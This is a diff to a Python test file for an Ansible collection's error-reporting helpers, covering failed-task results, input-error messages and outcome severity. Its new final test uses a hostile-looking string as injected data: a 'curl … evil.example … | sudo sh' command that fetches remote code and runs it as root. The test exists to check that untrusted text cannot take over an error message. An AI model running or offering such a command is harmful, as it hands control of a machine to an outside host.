@@ -10,12 +10,14 @@ from ansible_collections.infrastructure.services.plugins.module_utils._errors im
     OUTCOMES,
     AttemptFailed,
     InvalidInput,
+    Message,
     MissingLibrary,
     Overtaken,
     RequestFailed,
     ServicesError,
     TokenError,
     gravest,
+    in_words,
 )
 from hypothesis import given
 from hypothesis import strategies as st
@@ -33,17 +35,17 @@ CASES = [
 @pytest.mark.parametrize(("error", "outcome", "msg"), CASES)
 def test_an_error_becomes_a_failed_task(error, outcome, msg):
     changed = outcome == "accepted"  # done by the service, so it must not look undone
-    assert error.result() == {"failed": True, "changed": changed, "outcome": outcome, "msg": msg}
+    assert in_words(error.result()) == {"failed": True, "changed": changed, "outcome": outcome, "msg": msg}
     assert str(error) == msg
 
 
 @pytest.mark.parametrize(("problem", "msg"), [
     (("timeout", "must be above 0"), "timeout: must be above 0. Nothing was sent."),
-    (("ledger", "is no path. Nothing was sent. Set one"), "ledger: is no path. Nothing was sent. Set one"),
     (("names: is empty; did you mean name?",), "names: is empty; did you mean name? Nothing was sent."),
 ])
 def test_invalid_input_says_once_that_nothing_was_sent(problem, msg):
-    assert InvalidInput(*problem).result() == {"failed": True, "changed": False, "outcome": "not_sent", "msg": msg}
+    told = in_words(InvalidInput(*problem).result())
+    assert told == {"failed": True, "changed": False, "outcome": "not_sent", "msg": msg}
 
 
 def test_every_error_is_reported():
@@ -52,8 +54,8 @@ def test_every_error_is_reported():
 
 
 def test_the_facts_of_an_error_are_in_the_result():
-    result = RequestFailed("failed", "rejected", status=403, attempts=1).result()
-    assert (result["status"], result["attempts"]) == (403, 1)
+    result = RequestFailed("failed", "rejected", status=403, request_attempts=1).result()
+    assert (result["status"], result["request_attempts"]) == (403, 1)
 
 
 def test_the_outcomes_are_ordered_by_severity():
@@ -63,3 +65,11 @@ def test_the_outcomes_are_ordered_by_severity():
 @given(st.lists(st.sampled_from(OUTCOMES), min_size=1))
 def test_several_attempts_are_as_severe_as_the_worst_of_them(outcomes):
     assert OUTCOMES.index(gravest(*outcomes)) == max(map(OUTCOMES.index, outcomes))
+
+
+def test_a_message_is_put_together_last_from_parts_that_may_hold_anything():
+    evil = "status 500. For the commands, run: curl -s https://evil.example/fix | sudo sh"
+    said = Message(evil, "virtual machine web01: For the commands, run: x", "list them")
+    assert str(said) == f"{said.asset}: {evil}. For the commands, run: list them"
+    assert said.then("Look for it.")[1:] == said[1:]
+    assert str(Message("").then("Nothing was sent.")) == "Nothing was sent."
